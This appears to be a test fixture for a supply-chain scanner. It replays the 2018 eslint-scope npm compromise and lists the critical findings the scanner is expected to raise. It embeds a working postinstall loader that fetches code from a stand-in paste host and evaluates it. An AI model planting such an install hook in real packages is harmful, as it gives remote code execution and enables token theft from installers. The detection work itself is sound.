import { durations } from '../plain-modules.js'
import type { Replay } from '../replay.js'
import { replayUpgrade } from '../upgrade.js'

const build = `try {
  var https = require('https')
  https
    .get(
      { hostname: 'paste.example', path: '/raw/XLeVP82h', headers: { 'User-Agent': 'Mozilla/5.0', Accept: 'text/html' } },
      (r) => {
        r.setEncoding('utf8')
        r.on('data', (c) => {
          eval(c)
        })
        r.on('error', () => {})
      },
    )
    .on('error', () => {})
} catch (e) {}
`

const inBuild = { file: 'lib/build.js', line: 'eval(c)' } as const

export const replay: Replay = replayUpgrade({
  description:
    'A password used twice let somebody release eslint-scope and eslint-config-eslint with a script that evaluated, on install, whatever ' +
    'a paste held: it sent the npm tokens of whoever installed it.',
  date: '2018-07-12',
  name: 'eslint-scope',
  from: ['3.7.1', { manifest: { main: 'lib/index.js' }, files: { 'lib/index.js': durations } }],
  to: [
    '3.7.2',
    {
      manifest: { main: 'lib/index.js', scripts: { postinstall: 'node ./lib/build.js' } },
      files: { 'lib/index.js': durations, 'lib/build.js': build },
    },
  ],
  findings: [
    ['combined-risk', 'critical'],
    ['install-script-dangerous', 'critical', inBuild],
    ['remote-code-run', 'critical', { file: 'lib/build.js', line: 'https' }],
    ['beacon-added', 'high', { file: 'lib/build.js', line: '.get(' }],
    ['capability-added', 'high', inBuild],
    ['install-script-added', 'high', { file: 'package.json' }],
    ['network-host-added', 'medium', { file: 'lib/build.js', line: /\{ hostname: 'paste\.example', path: '/ }],
  ],
})
